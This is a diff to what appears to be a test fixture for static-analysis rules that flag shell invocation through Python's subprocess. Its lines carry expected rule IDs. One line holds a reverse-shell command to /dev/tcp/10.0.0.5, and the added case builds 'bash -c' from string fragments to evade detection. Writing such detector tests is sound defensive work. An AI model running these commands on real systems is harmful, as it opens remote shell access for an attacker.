@@ -186,8 +186,12 @@ subprocess.run(["git", "status"], check=True)
 
 # the argument list bound to a name first, and wrappers in front of the shell
 argv = ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/9001 0>&1"]
-# ruleid: shell-in-argv, subprocess-call
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
 subprocess.Popen(argv)
+# ... also when its items are built
+built = ["%s%s" % ("ba", "sh"), "-" + "c", "id"]
+# ruleid: shell-in-argv, subprocess-call, process-partial-path-list
+subprocess.run(built)
 # ruleid: shell-in-argv, subprocess-call, user-input-command
 subprocess.run(["/usr/bin/env", "bash", "-c", cmd])
 # ruleid: shell-in-argv, subprocess-call, process-partial-path-list, user-input-command
